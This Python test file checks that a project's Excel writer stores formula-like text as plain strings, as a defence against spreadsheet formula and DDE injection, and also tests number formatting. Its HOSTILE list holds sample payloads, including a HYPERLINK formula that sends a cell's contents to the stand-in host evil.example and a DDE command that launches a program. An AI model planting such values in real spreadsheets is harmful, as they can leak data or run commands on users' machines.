"""The one Excel writer never writes typed text as a formula (formula and DDE injection)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from siaga.core.excel import ExcelWriter

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+62 812",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _read_back(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data))["Log"]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    book = ExcelWriter()
    sheet = book.sheet("Log", ["Name", "Count"])
    for text in HOSTILE:
        sheet.append([text, 2])
    rows = _read_back(book.to_bytes())
    assert rows[0] == [("Name", "s"), ("Count", "s")]
    # XML reads a carriage return back as a line feed; what matters is the text type.
    assert rows[1:] == [[(text.replace("\r", "\n"), "s"), (2, "n")] for text in HOSTILE]


@pytest.mark.parametrize("header", ["=1+1", "@x"])
def test_a_hostile_header_is_text_too(header: str) -> None:
    book = ExcelWriter()
    book.sheet("Log", [header])
    assert _read_back(book.to_bytes()) == [[(header, "s")]]


def test_plain_values_keep_their_types() -> None:
    book = ExcelWriter()
    sheet = book.sheet("Log")
    sheet.append(["Joko", 164377, 1.5, None, "a=b"])
    rows = _read_back(book.to_bytes())
    assert rows == [[("Joko", "s"), (164377, "n"), (1.5, "n"), (None, "n"), ("a=b", "s")]]


def test_integers_are_written_as_counts_with_a_thousands_separator() -> None:
    book = ExcelWriter()
    sheet = book.sheet("Log", ["Name", "Voters", "Ledger entry"], identifiers=[2])
    sheet.append(["PPK Martapura", 164377, 120345])
    sheet.append(["flags", True, 1.5])
    cells = list(load_workbook(io.BytesIO(book.to_bytes()))["Log"].iter_rows())
    header, counts, others = cells
    assert [c.number_format for c in header] == ["General"] * 3
    voters, entry = counts[1], counts[2]
    assert (voters.value, type(voters.value), voters.number_format) == (164377, int, "#,##0")
    # An identifier keeps its digits as they are.
    assert (entry.value, entry.number_format) == (120345, "General")
    # A boolean is no count, and a decimal keeps its own format.
    assert [(c.value, c.number_format) for c in others[1:]] == [(True, "General"), (1.5, "General")]
